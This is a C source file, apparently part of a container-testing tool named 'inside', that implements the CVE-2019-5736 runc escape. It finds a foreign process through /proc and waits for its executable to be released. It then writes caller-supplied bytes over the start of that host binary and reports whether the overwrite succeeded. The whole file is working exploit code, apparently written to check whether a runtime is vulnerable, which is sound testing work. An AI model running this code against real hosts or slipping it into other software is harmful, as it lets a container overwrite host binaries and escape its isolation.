/* `inside overwrite PROGRAM TEXT`: what CVE-2019-5736 does. It waits for a process that is neither this program nor PROGRAM, opens
 * what that one runs by /proc/PID/exe, and once nobody runs it any more writes TEXT over its beginning. Prints "opened", and
 * then "overwritten" or the errno's name. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "inside.h"

static int is(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* An fd of what a stranger runs; -1: there is none at this moment */
static int strangers_program(const struct stat *own, const struct stat *program) {
  char path[300];
  struct dirent *entry;
  struct stat s;
  int found = -1;
  DIR *processes = opendir("/proc");
  if (!processes) return -1;
  while (found < 0 && (entry = readdir(processes))) {
    if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (!fstat(fd, &s) && !is(&s, own) && !is(&s, program)) found = fd;
    else close(fd);
  }
  closedir(processes);
  return found;
}

int overwrite_exe(int argc, char **argv) {
  struct stat own, program;
  char path[64];
  int fd = -1, again;
  if (argc != 4) return 2;
  if (stat("/proc/self/exe", &own) || stat(argv[2], &program)) return perror("stat"), 1;
  for (int tries = 0; fd < 0 && tries < 200000; tries++) {
    fd = strangers_program(&own, &program);
    if (fd < 0) usleep(50);
  }
  if (fd < 0) return puts("nobody came"), 1;
  puts("opened"), fflush(stdout);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int tries = 0; (again = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && tries < 5000; tries++) usleep(1000);
  if (again < 0 || pwrite(again, argv[3], strlen(argv[3]), 0) < 0) return printf("refused: %s\n", errno_name(errno)), 1;
  puts("overwritten");
  return 0;
}
